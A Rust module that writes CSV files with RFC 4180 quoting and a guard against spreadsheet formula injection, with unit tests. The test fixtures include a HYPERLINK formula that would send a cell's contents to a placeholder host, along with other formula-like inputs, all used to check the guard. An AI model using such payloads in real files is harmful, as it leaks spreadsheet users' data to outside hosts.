//! CSV for people who open it in a spreadsheet: RFC 4180 quoting by the `csv` crate, and a
//! formula-injection guard on text cells (OWASP "CSV injection").
//!
//! Every CSV writer of caseledger goes through [`CsvWriter`]: the reward decision audit
//! ([`crate::reward::audit::to_csv`]), the public appraisal report and the audit export. A cell is
//! either [`Cell::Text`] (guarded) or [`Cell::Number`] (written as it is, so a negative score keeps
//! its sign). A text cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return gets a
//! single quote `'` in front, which spreadsheet programs show but never evaluate. Quoting is the
//! `csv` crate's "necessary" style: a cell is quoted when it holds a comma, a double quote, a line
//! feed or a carriage return, and quotes inside are doubled.
//!
//! This module formats; it does no IO of its own. The caller hands it the [`std::io::Write`] to
//! fill (a `Vec<u8>` in the domain, the export file in the store).

use std::borrow::Cow;
use std::io::Write;

/// The characters that make a spreadsheet read a cell as a formula (or hide its start).
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// One cell of a row.
#[derive(Debug, Clone, Copy)]
pub enum Cell<'a> {
    /// Text, possibly typed by a user: guarded against formula injection.
    Text(&'a str),
    /// A number (or an empty cell where there is none): written unchanged.
    Number(&'a str),
}

/// The text with a `'` in front when it starts like a formula; otherwise unchanged.
pub fn guard(text: &str) -> Cow<'_, str> {
    if text.starts_with(FORMULA_STARTS) {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// How rows end.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum LineEnd {
    /// `\n`.
    Lf,
    /// `\r\n` (RFC 4180).
    CrLf,
}

/// Writes guarded, quoted rows into `W`.
pub struct CsvWriter<W: Write> {
    inner: csv::Writer<W>,
}

impl<W: Write> CsvWriter<W> {
    /// A writer whose rows end with `line_end`. Rows may differ in length.
    pub fn new(out: W, line_end: LineEnd) -> Self {
        let terminator = match line_end {
            LineEnd::Lf => csv::Terminator::Any(b'\n'),
            LineEnd::CrLf => csv::Terminator::CRLF,
        };
        let inner = csv::WriterBuilder::new()
            .flexible(true)
            .terminator(terminator)
            .from_writer(out);
        Self { inner }
    }

    /// Writes one row.
    pub fn row(&mut self, cells: &[Cell<'_>]) -> std::io::Result<()> {
        let fields = cells.iter().map(|cell| match cell {
            Cell::Text(text) => guard(text),
            Cell::Number(number) => Cow::Borrowed(*number),
        });
        self.inner
            .write_record(fields.map(|field| field.into_owned()))
            .map_err(std::io::Error::from)
    }

    /// Flushes and hands back the output.
    pub fn finish(self) -> std::io::Result<W> {
        self.inner
            .into_inner()
            .map_err(|error| std::io::Error::other(error.error().to_string()))
    }
}

/// Rows of cells as one CSV text (in memory, so nothing can fail).
pub fn to_string<'a>(rows: impl IntoIterator<Item = Vec<Cell<'a>>>, line_end: LineEnd) -> String {
    let mut writer = CsvWriter::new(Vec::new(), line_end);
    for row in rows {
        // Writing into a Vec of valid UTF-8 cells with flexible rows has no failure path.
        let written = writer.row(&row);
        debug_assert!(written.is_ok());
    }
    let bytes = writer.finish().unwrap_or_default();
    String::from_utf8(bytes)
        .unwrap_or_else(|error| String::from_utf8_lossy(error.as_bytes()).into_owned())
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The nasty cells of the formula-injection tests, with what a text cell becomes.
    const NASTY: [(&str, &str); 12] = [
        (
            "=HYPERLINK(\"http://x.test/?d=\"&A1,\"click\")",
            "\"'=HYPERLINK(\"\"http://x.test/?d=\"\"&A1,\"\"click\"\")\"",
        ),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\tcmd", "'\tcmd"),
        ("\r=cmd", "\"'\r=cmd\""),
        ("say \"hi\"", "\"say \"\"hi\"\"\""),
        ("a,b", "\"a,b\""),
        ("line one\nline two", "\"line one\nline two\""),
        ("区商务局，优化营商环境", "区商务局，优化营商环境"),
        ("plain", "plain"),
        ("", ""),
    ];

    #[test]
    fn text_cells_starting_like_a_formula_get_a_quote_and_quoting_follows_rfc_4180() {
        for (input, expected) in NASTY {
            let csv = to_string([vec![Cell::Text(input), Cell::Number("1")]], LineEnd::Lf);
            assert_eq!(csv, format!("{expected},1\n"), "{input:?}");
        }
    }

    #[test]
    fn number_cells_keep_their_sign() {
        let csv = to_string(
            [vec![
                Cell::Number("-2.50"),
                Cell::Number("+3"),
                Cell::Number(""),
            ]],
            LineEnd::CrLf,
        );
        assert_eq!(csv, "-2.50,+3,\r\n");
    }
}
